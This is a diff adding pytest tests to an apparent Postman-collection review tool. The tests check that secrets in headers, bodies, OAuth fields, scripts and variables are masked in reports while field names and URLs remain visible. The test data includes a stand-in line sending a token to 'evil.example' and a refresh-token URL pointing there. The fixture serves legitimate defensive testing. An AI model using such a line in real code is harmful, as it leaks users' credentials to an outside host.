@@ -14,6 +14,7 @@ from okta_postman.review.changes import Changes
 from okta_postman.review.collection import collection_inventory
 from okta_postman.review.compare import compare
 from okta_postman.review.fields import CONNECTION, comparable
+from okta_postman.review.hidden import hidden
 from okta_postman.review.inventory import Inventory, inventory
 from tests.support import review
 from tests.support.manifests import check, generated
@@ -595,3 +596,78 @@ def test_scopes_of_another_provider_that_nothing_needed_before_are_broader_acces
     found = changes(old, old + "  orders.write: [POST /orders]\n")
     assert (found.new_scopes, found.broader_access) == (("orders.write",), True)
     assert not changes(old, old + "    - GET /other\n").broader_access
+
+
+SECRETS = ("hunter-one", "hunter-two", "Bearer hunter-three", "hunter4")
+
+
+@pytest.mark.parametrize("form", list(review.ENDINGS))
+def test_what_is_named_like_a_secret_is_seen_to_change_and_never_shown(form: str) -> None:
+    def leaky(secret: str) -> bytes:
+        pair = {"key": "password", "value": secret}
+        request = {
+            "method": "POST",
+            "url": {"host": ["{{baseUrl}}"], "path": ["a"], "query": [{**pair, "key": "api_key"}]},
+            "header": [{"key": "Authorization", "value": secret}, {**pair, "key": "X-Api-Key"}],
+            "body": {"mode": "raw", "raw": json.dumps({"password": secret}, indent=1)},
+            "auth": {
+                "type": "oauth2",
+                "oauth2": [
+                    {"key": "clientId", "value": "a"},
+                    {"key": "clientSecret", "value": secret},
+                    {"key": "refreshToken", "value": secret},
+                    {"key": "tokenRequestParams", "value": [{"key": "secret", "value": secret}]},
+                ],
+            },
+        }
+        script = {"listen": "test", "script": {"exec": [f"const token = '{secret}'"]}}
+        data = {
+            "info": {"name": "x"},
+            "item": [{"name": "a", "request": request}],
+            "event": [script],
+            "variable": [pair, {**pair, "key": "my_token"}],
+        }
+        return json.dumps(data).encode()
+
+    old = Version("a.json", leaky("old-and-plain"))
+    for secret in SECRETS:
+        text = review.report((old, Version("b.json", leaky(secret))), form)
+        assert secret not in text
+        assert "hunter" not in text
+        assert "old-and-plain" not in text
+        for name in ("password", "api_key", "X-Api-Key", "Authorization", "my_token", "token"):
+            assert name in text, name
+
+
+@pytest.mark.parametrize(
+    ("attribute", "value", "shown"),
+    [
+        (
+            "headers",
+            "Authorization: Bearer {{accessToken}}",
+            "Authorization: Bearer {{accessToken}}",
+        ),
+        ("headers", "Authorization: SSWS abc", "Authorization: SSWS ***"),
+        ("headers", "X-Trace: abc", "X-Trace: abc"),
+        ("settings", "addTokenTo=queryParams", "addTokenTo=queryParams"),
+        (
+            "settings",
+            "refreshTokenUrl=https://evil.example/t",
+            "refreshTokenUrl=https://evil.example/t",
+        ),
+        ("variables", "userId=me", "userId=me"),
+        ("body", '  "password": "abc",', '  "password": "***",'),
+        ("body", '  "password": "{{password}}",', '  "password": "{{password}}",'),
+        ("body", "password=abc&limit=1", "password=***&limit=***"),
+        (
+            "code",
+            "send(token, {url: 'https://evil.example'})",
+            "send(token, {url: 'https://evil.example'})",
+        ),
+        ("org", "https://token.example", "https://token.example"),
+    ],
+)
+def test_secrets_are_hidden_and_variables_and_urls_are_not(
+    attribute: str, value: str, shown: str
+) -> None:
+    assert hidden(attribute, value) == shown
